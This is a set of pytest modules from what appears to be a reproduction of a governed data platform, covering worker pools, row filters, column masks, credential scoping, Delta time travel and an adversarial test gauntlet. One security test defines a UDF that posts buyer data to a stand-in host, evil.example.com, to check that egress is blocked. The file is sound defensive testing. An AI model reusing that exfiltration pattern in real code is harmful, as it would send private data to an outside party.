                    "NULL" if a is None else repr(a),
                )
                for i, (_, r, a) in enumerate(rows)
            )
            admin.sql(f"INSERT INTO {table} VALUES {values}")
        admin.sql(f"GRANT SELECT ON {table} TO analysts")
        for query in (
            f"SELECT id, region, amount FROM {table} ORDER BY id",
            f"SELECT id, amount + 0.5 AS b FROM {table} WHERE amount > 0.0 ORDER BY id",
            f"SELECT region, count(*) AS n, sum(amount) AS s FROM {table} "
            "GROUP BY region ORDER BY region",
        ):
            thread_rows = thread.connect("alice").sql(query).collect()
            process_rows = process.connect("alice").sql(query).collect()
            assert thread_rows == process_rows


# ---------------------------------------------------------------------------
# Pool telemetry, lifecycle, and leak guard
# ---------------------------------------------------------------------------


class TestPoolLifecycleAndStats:
    def test_worker_pool_rows_in_cache_stats(self, dual_backend):
        ws, thread, process = dual_backend
        process.connect("alice").sql(
            "SELECT id FROM main.sales.orders ORDER BY id"
        ).collect()
        admin = process.connect("admin")
        rows = admin.table("system.access.cache_stats").to_dict()
        by_metric = {
            (c, m): v
            for c, m, v in zip(rows["cache"], rows["metric"], rows["value"])
        }
        pool_caches = {
            c for c in rows["cache"] if c.startswith("worker_pool[")
        }
        assert pool_caches == {"worker_pool[process-backend]"}
        cache = pool_caches.pop()
        assert by_metric[(cache, "workers_alive")] >= 1.0
        assert by_metric[(cache, "tasks_dispatched")] >= 1.0
        assert by_metric[(cache, "shm_bytes_in_flight")] == 0.0
        assert by_metric[(cache, "serialization_bytes_saved")] > 0.0

    def test_cache_stats_stay_admin_gated(self, dual_backend):
        _, _, process = dual_backend
        with pytest.raises(PermissionDenied):
            process.connect("alice").table("system.access.cache_stats").collect()

    def test_no_segments_leak_after_queries(self, dual_backend):
        _, _, process = dual_backend
        alice = process.connect("alice")
        for _ in range(3):
            alice.sql(
                "SELECT id, amount FROM main.sales.orders "
                "WHERE amount > 0.0 ORDER BY id"
            ).collect()
        assert shmbuf.live_segment_names() == []

    def test_cluster_shutdown_reaps_workers_and_segments(self):
        ws = Workspace()
        ws.add_user("admin", admin=True)
        ws.catalog.create_catalog("main", owner="admin")
        ws.catalog.create_schema("main.s", owner="admin")
        cluster = ws.create_standard_cluster(
            name="short-lived", worker_backend="process", num_executors=2
        )
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE main.s.t (id int)")
        admin.sql("INSERT INTO main.s.t VALUES (1),(2),(3)")
        admin.sql("SELECT id FROM main.s.t ORDER BY id").collect()
        pool = cluster.backend.worker_pool
        assert pool is not None and pool.workers_alive() >= 1
        ws.shutdown()
        assert pool.closed
        assert pool.workers_alive() == 0
        assert shmbuf.live_segment_names() == []
        # Idempotent: a second shutdown is a no-op, not an error.
        ws.shutdown()

    def test_engine_falls_back_to_threads_after_close(self):
        ws = Workspace()
        ws.add_user("admin", admin=True)
        ws.catalog.create_catalog("main", owner="admin")
        ws.catalog.create_schema("main.s", owner="admin")
        cluster = ws.create_standard_cluster(
            name="fallback", worker_backend="process", num_executors=2
        )
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE main.s.t (id int)")
        admin.sql("INSERT INTO main.s.t VALUES (1),(2)")
        cluster.shutdown()
        # The pool is gone; queries still run (thread fallback).
        rows = admin.sql("SELECT id FROM main.s.t ORDER BY id").collect()
        assert rows == [(1,), (2,)]


# ---------------------------------------------------------------------------
# Chaos determinism inside workers
# ---------------------------------------------------------------------------


def _seeded_chaos_run(seed: int):
    """One process-backend run with a seeded worker.task schedule."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    faults = ws.catalog.faults
    faults.seed = seed
    faults.arm("worker.task", FaultSpec(probability=0.2))
    # Single executor: scan tasks hit the pool in a deterministic order, so
    # the per-worker fault schedule replays exactly.
    cluster = ws.create_standard_cluster(
        name="chaos", worker_backend="process", num_executors=1
    )
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE main.s.t (id int, v float)")
    for i in range(4):
        admin.sql(f"INSERT INTO main.s.t VALUES ({2 * i},1.5),({2 * i + 1},2.5)")
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.t TO analysts")
    alice = cluster.connect("alice")
    rows = [
        alice.sql("SELECT id, v FROM main.s.t WHERE v > 0.0 ORDER BY id").collect()
        for _ in range(4)
    ]
    triggered = faults.trigger_count("worker.task")
    snapshot = faults.stats_snapshot()
    ws.shutdown()
    return rows, triggered, snapshot


class TestWorkerChaos:
    def test_seeded_schedule_replays_identically(self):
        first = _seeded_chaos_run(1337)
        second = _seeded_chaos_run(1337)
        assert first == second
        rows, triggered, _ = first
        # Faults actually fired in-worker, and every query still succeeded.
        assert triggered >= 1
        assert all(len(r) == 8 for r in rows)

    def test_different_seed_changes_the_schedule(self):
        _, a, _ = _seeded_chaos_run(1337)
        _, b, _ = _seeded_chaos_run(99991)
        # Trigger *timing* differs; counts may rarely coincide, so compare
        # against a third seed too — all three matching would mean the seed
        # is ignored.
        _, c, _ = _seeded_chaos_run(424243)
        assert len({a, b, c}) > 1


# ---------------------------------------------------------------------------
# Sandbox shared-memory transport
# ---------------------------------------------------------------------------


@udf("int")
def _double(x):
    return None if x is None else x * 2


DOUBLE = _double.with_owner("alice")


class TestSandboxShmTransport:
    def test_shm_transport_matches_legacy_results(self):
        args = [[1, None, 3, 4], ["a", "b", "c", "d"]]

        @udf("string")
        def tag(x, s):
            return f"{s}:{x}"

        legacy = SubprocessSandbox("alice", use_shm=False)
        shm = SubprocessSandbox("alice")
        try:
            udf_obj = tag.with_owner("alice")
            assert legacy.invoke(udf_obj, args) == shm.invoke(udf_obj, args)
        finally:
            legacy.close()
            shm.close()

    def test_data_path_pickle_bytes_drop_to_zero(self):
        """Table 2: the shm transport moves no batch pickle bytes at all."""
        args = [list(range(512))]
        legacy = SubprocessSandbox("alice", use_shm=False)
        shm = SubprocessSandbox("alice")
        try:
            legacy.invoke(DOUBLE, args)
            shm.invoke(DOUBLE, args)
        finally:
            legacy.close()
            shm.close()
        assert legacy.stats.data_pickle_bytes > 1000
        assert shm.stats.data_pickle_bytes == 0
        assert shm.stats.shm_bytes > 0
        # Control traffic (install frames, layout metadata) is exempt.
        assert shm.stats.control_pickle_bytes > 0

    def test_invoke_many_over_shm(self):
        shm = SubprocessSandbox("alice")
        try:
            results = shm.invoke_many(
                [(7, DOUBLE, [[1, 2, None]]), (9, DOUBLE, [[10, 20, 30]])]
            )
        finally:
            shm.close()
        assert results == {7: [2, 4, None], 9: [20, 40, 60]}
        assert shm.stats.data_pickle_bytes == 0
        assert shm.stats.fused_invocations == 1

    def test_no_segments_leak_after_sandbox_use(self):
        shm = SubprocessSandbox("alice")
        try:
            for _ in range(3):
                shm.invoke(DOUBLE, [[1, 2, 3]])
        finally:
            shm.close()
        assert shmbuf.live_segment_names() == []
