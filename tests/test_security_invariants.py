"""The eight security invariants from DESIGN.md §5, tested adversarially.

These tests play the attacker: each one attempts a concrete escalation the
paper's design must prevent, and asserts the system refuses or contains it.
"""

import pytest

from repro.connect.client import col, udf
from repro.errors import (
    EgressDenied,
    PermissionDenied,
    TrustDomainViolation,
)
from repro.sandbox import net


class TestInvariant1_NoResidualData:
    def test_filtered_rows_unreachable_through_any_surface(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")

        # SQL surface.
        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 2
        # DataFrame surface.
        assert len(alice.table("main.sales.orders").collect()) == 2
        # Aggregation can't count hidden rows.
        assert alice.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(2,)]
        # A negated predicate can't flush them out.
        rows = alice.sql(
            "SELECT id FROM main.sales.orders WHERE NOT (region = 'US')"
        ).collect()
        assert rows == []

    def test_udf_cannot_observe_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("string")
        def leak(region):
            return region

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").select(leak(col("region"))).collect()
        assert {r[0] for r in rows} == {"US"}

    def test_join_does_not_leak_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT a.id, b.id FROM main.sales.orders a "
            "JOIN main.sales.orders b ON a.region = b.region"
        ).collect()
        ids = {r[0] for r in rows} | {r[1] for r in rows}
        assert ids == {1, 3}


class TestInvariant2_SecureViewBarrier:
    def test_udf_filter_evaluates_after_policy(
        self, workspace, standard_cluster, admin_client
    ):
        """A UDF used as a WHERE predicate sees only policy-visible rows."""
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("bool")
        def probe(region):
            # If pushdown were broken, this would return True for EU/APAC
            # rows and the query would emit them.
            return True

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").filter(probe(col("region"))).collect()
        assert len(rows) == 2


class TestInvariant3_CredentialScoping:
    def test_vended_credential_bounded_to_table_prefix(
        self, workspace, standard_cluster, admin_client
    ):
        cat = workspace.catalog
        ctx = cat.principals.context_for("alice")
        cred = cat.vend_credential(
            ctx, "main.sales.orders", {"READ", "LIST"}, standard_cluster.backend.caps
        )
        table = cat.get_table("main.sales.orders")
        assert cred.authorizes(f"{table.storage_root}/data/f", "READ", 0)
        # Sibling table's prefix: out of scope.
        assert not cred.authorizes(
            "s3://unity-managed/main/sales/other/data/f", "READ", 0
        )
        # Write op: out of scope.
        assert not cred.authorizes(f"{table.storage_root}/data/f", "WRITE", 0)

    def test_credential_carries_identity_for_audit(
        self, workspace, standard_cluster, alice_client
    ):
        alice_client.table("main.sales.orders").collect()
        vends = workspace.catalog.audit.events(action="catalog.vend_credential")
        assert vends and vends[-1].principal == "alice"


class TestInvariant4_TrustDomains:
    def test_cataloged_udfs_of_different_owners_never_share_sandbox(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.engine.udf import udf as engine_udf
        from repro.connect.client import catalog_function

        cat = workspace.catalog

        @engine_udf("float")
        def plus1(x):
            return x + 1.0

        @engine_udf("float")
        def plus2(x):
            return x + 2.0

        cat.create_function("main.sales.by_admin", plus1, owner="admin")
        cat.create_function("main.sales.by_carol", plus2, owner="carol")
        for fn in ("main.sales.by_admin", "main.sales.by_carol"):
            cat.grant("EXECUTE", fn, "analysts")

        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").select(
            catalog_function("main.sales.by_admin")(col("amount")).alias("a"),
            catalog_function("main.sales.by_carol")(col("amount")).alias("b"),
        ).collect()
        # Two distinct owners → two sandboxes in alice's session.
        backend = standard_cluster.backend
        session_sandboxes = backend.cluster_manager.stats.created
        assert session_sandboxes >= 2

    def test_sandbox_rejects_foreign_domain_directly(self):
        from repro.engine.udf import udf as engine_udf
        from repro.sandbox import InProcessSandbox

        @engine_udf("int")
        def f(x):
            return x

        sandbox = InProcessSandbox("alice")
        with pytest.raises(TrustDomainViolation):
            sandbox.invoke(f.with_owner("eve"), [[1]])


class TestInvariant5_VersionCompatibility:
    @pytest.mark.parametrize("version", [1, 2, 3, 4])
    def test_all_supported_client_versions_execute(
        self, standard_cluster, admin_client, version
    ):
        client = standard_cluster.connect("alice", client_version=version)
        assert client.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(4,)]

    def test_unknown_optional_fields_ignored(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        relation = {
            "@type": "relation.read",
            "table": "main.sales.orders",
            "hint_from_the_future": {"v": 99},
        }
        schema, columns = client.execute_relation(relation)
        assert len(columns[0]) == 4


class TestInvariant6_EfgacEquivalence:
    def test_dedicated_equals_standard_under_policies(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="ded-eq")
        query = "SELECT id, buyer FROM main.sales.orders ORDER BY id"
        std_rows = standard_cluster.connect("alice").sql(query).collect()
        ded_rows = ded.connect("alice").sql(query).collect()
        assert std_rows == ded_rows == [(1, "***"), (3, "***")]


class TestInvariant7_DownScoping:
    def test_effective_rights_are_exactly_the_groups(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("GRANT MODIFY ON main.sales.orders TO carol")
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="ds")
        carol = ded.connect("carol")
        # carol's personal MODIFY is suppressed on the group cluster.
        with pytest.raises(PermissionDenied):
            carol.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")
        # But on a standard cluster her full identity applies.
        carol_std = standard_cluster.connect("carol")
        carol_std.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")


class TestInvariant8_Egress:
    def test_exfiltration_blocked_and_surfaced(
        self, workspace, standard_cluster, admin_client
    ):
        net.register_service("evil.example.com", lambda p, b: "ok")
        try:

            @udf("string")
            def exfil(buyer):
                net.http_post("http://evil.example.com/drop", payload=buyer)
                return "sent"

            alice = standard_cluster.connect("alice")
            with pytest.raises(EgressDenied):
                alice.table("main.sales.orders").select(exfil(col("buyer"))).collect()
        finally:
            net.unregister_service("evil.example.com")


class TestCacheInvalidation:
    """Policy changes must invalidate every enforcement cache, immediately.

    The secure-plan and credential caches key on the catalog policy epoch;
    these tests change governance state between repeated queries and assert
    no stale plan or credential ever serves data the new policy forbids.
    """

    def test_row_filter_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        cache = standard_cluster.backend.plan_cache
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]
        hits_before = cache.stats.hits
        alice.sql(query).collect()
        assert cache.stats.hits == hits_before + 1, "repeat must be cached"

        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        stale_before = cache.stats.stale_epoch_misses
        assert alice.sql(query).collect() == [(1,), (3,)], (
            "a cached pre-filter plan leaked hidden rows"
        )
        assert cache.stats.stale_epoch_misses == stale_before + 1

        # Dropping the filter is itself a policy change: hard miss again.
        admin_client.sql("ALTER TABLE main.sales.orders DROP ROW FILTER")
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]

    def test_column_mask_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT buyer FROM main.sales.orders ORDER BY id"
        alice.sql(query).collect()
        alice.sql(query).collect()  # primed in the plan cache
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        rows = alice.sql(query).collect()
        assert {r[0] for r in rows} == {"***"}, "cached plan bypassed the mask"

    def test_revoke_denies_despite_cached_plan_and_credential(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders"
        alice.sql(query).collect()
        alice.sql(query).collect()  # plan + credential both cached
        admin_client.sql("REVOKE SELECT ON main.sales.orders FROM analysts")
        with pytest.raises(PermissionDenied):
            alice.sql(query).collect()
        # Re-granting restores access (another epoch bump, fresh resolution).
        admin_client.sql("GRANT SELECT ON main.sales.orders TO analysts")
        assert len(alice.sql(query).collect()) == 4

    def test_grant_revoke_invalidates_cached_credential(
        self, workspace, standard_cluster, admin_client
    ):
        source = standard_cluster.backend.data_source
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        stale_before = source.credential_cache.stats.stale_epoch_misses
        vended_before = source.stats.credentials_vended
        admin_client.sql("GRANT SELECT ON main.sales.orders TO carol")
        alice.sql("SELECT region FROM main.sales.orders").collect()
        assert source.credential_cache.stats.stale_epoch_misses == stale_before + 1
        assert source.stats.credentials_vended == vended_before + 1, (
            "the post-grant scan must re-vend (re-running the privilege check)"
        )

    def test_view_redefinition_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'US'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.us_orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (3,)]
        assert alice.sql(query).collect() == [(1,), (3,)]
        admin_client.sql("DROP VIEW main.sales.us_orders")
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'EU'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        assert alice.sql(query).collect() == [(2,)], (
            "a cached plan served the dropped view definition"
        )


class TestSessionHijacking:
    def test_session_of_other_user_unusable(self, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        # bob forges requests against alice's session id.
        bob = standard_cluster.connect("bob")
        forged = {
            "session_id": alice.session_id,
            "user": "bob",
            "client_version": 4,
            "plan": {"@type": "relation.range", "start": 0, "end": 1, "step": 1},
            "operation_id": "op-forged",
        }
        items = list(
            standard_cluster.service.handle_stream("execute_plan", forged)
        )
        assert items[0]["@type"] == "error"
        assert items[0]["error_class"] == "SessionError"
