"""Tests for LIKE / BETWEEN and related surface added to the SQL subset."""

import pytest

from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.logical import LocalRelation
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.sql.parser import parse_statement
from repro.sql.to_plan import PlanBuilder
from repro.errors import ParseError

SCHEMA = Schema((Field("id", INT), Field("name", STRING), Field("v", FLOAT)))
DATA = LocalRelation(
    SCHEMA,
    [
        [1, 2, 3, 4],
        ["alice", "albert", "bob", None],
        [1.0, 2.0, 3.0, 4.0],
    ],
)


@pytest.fixture
def engine():
    return QueryEngine(DictResolver({"t": DATA}))


def run(engine, sql):
    return engine.execute(PlanBuilder().build(parse_statement(sql))).rows()


class TestLike:
    def test_prefix(self, engine):
        assert run(engine, "SELECT id FROM t WHERE name LIKE 'al%'") == [(1,), (2,)]

    def test_suffix(self, engine):
        assert run(engine, "SELECT id FROM t WHERE name LIKE '%ce'") == [(1,)]

    def test_underscore(self, engine):
        assert run(engine, "SELECT id FROM t WHERE name LIKE 'b_b'") == [(3,)]

    def test_not_like(self, engine):
        assert run(engine, "SELECT id FROM t WHERE name NOT LIKE 'al%'") == [(3,)]

    def test_null_never_matches(self, engine):
        rows = run(engine, "SELECT id FROM t WHERE name LIKE '%'")
        assert (4,) not in rows

    def test_regex_metacharacters_escaped(self, engine):
        data = LocalRelation(
            Schema((Field("s", STRING),)), [["a.b", "axb"]]
        )
        e = QueryEngine(DictResolver({"u": data}))
        rows = run(e, "SELECT s FROM u WHERE s LIKE 'a.b'")
        assert rows == [("a.b",)]  # the dot is literal, not regex-any

    def test_pattern_must_be_literal(self, engine):
        with pytest.raises(ParseError):
            run(engine, "SELECT id FROM t WHERE name LIKE name")

    def test_like_in_row_filter_policy(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region LIKE 'U%')"
        )
        alice = standard_cluster.connect("alice")
        assert len(alice.table("main.sales.orders").collect()) == 2

    def test_like_pushed_through_efgac(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="lk")
        alice = ded.connect("alice")
        rows = alice.sql(
            "SELECT id FROM main.sales.orders WHERE buyer LIKE 'p%'"
        ).collect()
        assert sorted(rows) == [(1,), (3,)]
        from repro.engine.logical import RemoteScan

        scans = [
            n for n in ded.backend.last_result.optimized_plan.walk()
            if isinstance(n, RemoteScan)
        ]
        assert scans[0].pushed.get("filters", 0) >= 1

    def test_client_column_like(self, workspace, standard_cluster, admin_client):
        from repro.connect.client import col

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").filter(
            col("region").like("E%")
        ).collect()
        assert [r[0] for r in rows] == [2]


class TestBetween:
    def test_between_inclusive(self, engine):
        rows = run(engine, "SELECT id FROM t WHERE v BETWEEN 2.0 AND 3.0")
        assert rows == [(2,), (3,)]

    def test_not_between(self, engine):
        rows = run(engine, "SELECT id FROM t WHERE v NOT BETWEEN 2.0 AND 3.0")
        assert rows == [(1,), (4,)]

    def test_between_expressions(self, engine):
        rows = run(engine, "SELECT id FROM t WHERE v BETWEEN 1.0 + 0.5 AND 10.0 / 3")
        assert rows == [(2,), (3,)]


class TestNonPythonUDFs:
    def test_scala_udf_representable_but_not_executable(self):
        from repro.engine.types import INT as INT_TYPE
        from repro.engine.udf import PythonUDF
        from repro.errors import UnsupportedOperationError

        scala_udf = PythonUDF(
            "jvmThing", lambda x: x, INT_TYPE, owner="admin", language="scala"
        )
        with pytest.raises(UnsupportedOperationError, match="scala"):
            scala_udf.invoke_rows([[1]])

    def test_scala_udf_catalogable(self, workspace):
        from repro.engine.types import INT as INT_TYPE
        from repro.engine.udf import PythonUDF

        scala_udf = PythonUDF(
            "jvmThing", lambda x: x, INT_TYPE, owner="admin", language="scala"
        )
        workspace.catalog.create_schema("main.fns", owner="admin")
        fn = workspace.catalog.create_function(
            "main.fns.jvm_thing", scala_udf, owner="admin"
        )
        assert fn.udf.language == "scala"


class TestServiceHousekeeping:
    def test_housekeeping_evicts_and_reaps(self):
        from repro.catalog.privileges import UserContext
        from repro.common.clock import VirtualClock
        from repro.connect.service import SparkConnectService
        from repro.connect.sessions import SessionManager

        class NullBackend:
            def authenticate(self, user):
                return UserContext(user=user)

            def on_session_closed(self, session):
                pass

            def execute_relation(self, session, relation):
                raise AssertionError

            def execute_command(self, session, command):
                raise AssertionError

            def analyze_relation(self, session, relation):
                raise AssertionError

        clock = VirtualClock()
        service = SparkConnectService(
            NullBackend(),
            clock=clock,
            sessions=SessionManager(
                clock=clock, session_ttl=100.0, operation_abandon_after=50.0
            ),
        )
        session = service.sessions.create_session(UserContext(user="alice"))
        op = service.sessions.start_operation(session.session_id)
        clock.advance(60.0)
        report = service.housekeeping()
        assert report["abandoned_operations"] == [op.operation_id]
        assert report["expired_sessions"] == []
        clock.advance(60.0)
        report = service.housekeeping()
        assert report["expired_sessions"] == [session.session_id]
