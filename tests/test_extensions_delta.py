"""Tests for Connect protocol extensions and the Delta plugin."""

import pytest

from repro.connect.client import DataFrame
from repro.core import delta_plugin
from repro.core.extensions import ExtensionRegistry, default_registry
from repro.errors import PermissionDenied, ProtocolError


@pytest.fixture
def versioned_table(workspace, standard_cluster, admin_client):
    """orders gets three data versions: v1 (4 rows), v2 (+1), v3 overwrite."""
    admin_client.sql("INSERT INTO main.sales.orders VALUES (5,'US',50.0,'p5')")
    ctx = workspace.catalog.principals.context_for("admin")
    workspace.catalog.write_table(
        "main.sales.orders",
        {"id": [9], "region": ["US"], "amount": [9.0], "buyer": ["p9"]},
        ctx,
        overwrite=True,
    )
    return workspace, standard_cluster, admin_client


class TestRegistry:
    def test_default_registry_has_delta(self):
        registry = default_registry()
        assert "delta.time_travel" in registry.relation_names()
        assert {"delta.history", "delta.vacuum"} <= set(registry.command_names())

    def test_unknown_relation_extension(self):
        registry = ExtensionRegistry()
        with pytest.raises(ProtocolError, match="unknown relation extension"):
            registry.decode_relation("nope", {}, None)

    def test_unknown_command_extension(self):
        registry = ExtensionRegistry()
        with pytest.raises(ProtocolError, match="unknown command extension"):
            registry.execute_command("nope", {}, None, None)

    def test_custom_extension_roundtrip(self, workspace, standard_cluster, admin_client):
        """Third parties can plug in without touching the protocol."""
        calls = []

        def handler(payload, session, backend):
            calls.append(payload)
            return {"status": "ok", "echo": payload}

        standard_cluster.backend.extensions.register_command(
            "acme.custom", handler
        )
        from repro.connect import proto

        result = admin_client.execute_command(
            proto.command_extension("acme.custom", {"x": 1})
        )
        assert result["echo"] == {"x": 1}
        assert calls == [{"x": 1}]


class TestTimeTravel:
    def test_read_old_version(self, versioned_table):
        ws, cluster, admin = versioned_table
        latest = admin.table("main.sales.orders").collect()
        assert len(latest) == 1  # after overwrite
        v1 = DataFrame(admin, delta_plugin.time_travel_relation("main.sales.orders", 1))
        assert len(v1.collect()) == 4
        v2 = DataFrame(admin, delta_plugin.time_travel_relation("main.sales.orders", 2))
        assert len(v2.collect()) == 5

    def test_time_travel_respects_row_filter(self, versioned_table):
        """Governance applies to historical versions too."""
        ws, cluster, admin = versioned_table
        admin.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = cluster.connect("alice")
        v1 = DataFrame(alice, delta_plugin.time_travel_relation("main.sales.orders", 1))
        rows = v1.collect()
        assert len(rows) == 2
        assert {r[1] for r in rows} == {"US"}

    def test_time_travel_requires_select(self, versioned_table):
        ws, cluster, admin = versioned_table
        bob = cluster.connect("bob")
        v1 = DataFrame(bob, delta_plugin.time_travel_relation("main.sales.orders", 1))
        with pytest.raises(PermissionDenied):
            v1.collect()

    def test_time_travel_on_view_rejected(self, versioned_table):
        ws, cluster, admin = versioned_table
        admin.sql("CREATE VIEW main.sales.v AS SELECT id FROM main.sales.orders")
        from repro.errors import LakeguardError

        df = DataFrame(admin, delta_plugin.time_travel_relation("main.sales.v", 0))
        with pytest.raises(LakeguardError, match="only supported on tables"):
            df.collect()

    def test_time_travel_through_efgac(self, versioned_table):
        """Historical reads of governed tables work on dedicated compute."""
        ws, cluster, admin = versioned_table
        admin.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        ded = ws.create_dedicated_cluster(assigned_user="alice", name="tt-ded")
        alice = ded.connect("alice")
        v1 = DataFrame(alice, delta_plugin.time_travel_relation("main.sales.orders", 1))
        rows = v1.collect()
        assert len(rows) == 2
        assert ded.backend.remote_executor.stats.subqueries >= 1

    def test_malformed_payload(self, versioned_table):
        ws, cluster, admin = versioned_table
        from repro.connect import proto

        df = DataFrame(
            admin,
            proto.relation_extension("delta.time_travel", {"table": "x"}),
        )
        with pytest.raises(ProtocolError, match="malformed"):
            df.collect()


class TestHistoryAndVacuum:
    def test_history(self, versioned_table):
        ws, cluster, admin = versioned_table
        payload = admin.execute_command(
            delta_plugin.history_command("main.sales.orders")
        )
        history = payload["history"]
        assert [h["version"] for h in history] == [0, 1, 2, 3]
        assert history[3]["num_rows"] == 1  # the overwrite

    def test_history_requires_select(self, versioned_table):
        ws, cluster, admin = versioned_table
        bob = cluster.connect("bob")
        with pytest.raises(PermissionDenied):
            bob.execute_command(delta_plugin.history_command("main.sales.orders"))

    def test_vacuum_reclaims_dead_files(self, versioned_table):
        ws, cluster, admin = versioned_table
        payload = admin.execute_command(
            delta_plugin.vacuum_command("main.sales.orders")
        )
        assert payload["files_removed"] == 2  # v1 + v2 files, dead after overwrite
        assert payload["bytes_reclaimed"] > 0
        # Latest version still readable.
        assert len(admin.table("main.sales.orders").collect()) == 1

    def test_vacuum_requires_ownership(self, versioned_table):
        ws, cluster, admin = versioned_table
        alice = cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.execute_command(delta_plugin.vacuum_command("main.sales.orders"))

    def test_time_travel_broken_after_vacuum(self, versioned_table):
        """Vacuum trades history for storage — like real Delta."""
        ws, cluster, admin = versioned_table
        admin.execute_command(delta_plugin.vacuum_command("main.sales.orders"))
        from repro.errors import LakeguardError

        v1 = DataFrame(admin, delta_plugin.time_travel_relation("main.sales.orders", 1))
        with pytest.raises(LakeguardError):
            v1.collect()
