"""The adversarial gauntlet: every registered attack must stay contained.

One wired :class:`GauntletHarness` per module; each registered scenario is
its own parametrized test so a leak names the exact attack that landed.
Separate fresh-harness legs re-run the whole registry on the explicit
process worker backend and under a seeded PR-5 chaos schedule (the
default-backend leg also inherits ``LAKEGUARD_WORKER_BACKEND`` /
``LAKEGUARD_CHAOS_*`` from CI's matrix jobs). The committed corpus in
``tests/attack_corpus/`` replays fuzzer-grade counterexamples
deterministically, and a bounded hypothesis run hunts for new ones.
"""

from __future__ import annotations

import pytest

from repro.attacks import registry
from repro.attacks.fuzzer import LeakOracle, load_corpus, run_fuzz
from repro.attacks.harness import ORDERS, GauntletHarness
from repro.connect import proto
from repro.errors import PermissionDenied

CORPUS_DIR = "tests/attack_corpus"

SCENARIOS = registry.load_all_scenarios()


@pytest.fixture(scope="module")
def gauntlet():
    harness = GauntletHarness()
    yield harness
    harness.close()


class TestRegistryShape:
    def test_issue_floor_scenarios_and_families(self):
        assert len(SCENARIOS) >= 12
        assert len(registry.technique_families()) >= 5

    def test_scenarios_are_fully_described(self):
        for scenario in SCENARIOS:
            assert scenario.description, scenario.name
            assert scenario.expected_containment, scenario.name

    def test_every_family_has_multiple_scenarios(self):
        by_family: dict[str, int] = {}
        for scenario in SCENARIOS:
            by_family[scenario.technique] = by_family.get(scenario.technique, 0) + 1
        assert all(count >= 2 for count in by_family.values()), by_family


class TestGauntlet:
    @pytest.mark.parametrize(
        "name", [s.name for s in SCENARIOS], ids=[s.name for s in SCENARIOS]
    )
    def test_scenario_contained(self, gauntlet, name):
        scenario = registry.get_scenario(name)
        result = registry.run_scenario(gauntlet, scenario)
        assert result.contained, (
            f"{name} LEAKED ({result.leaked_rows} rows, "
            f"{result.leaked_bytes} bytes): {result.detail}"
        )
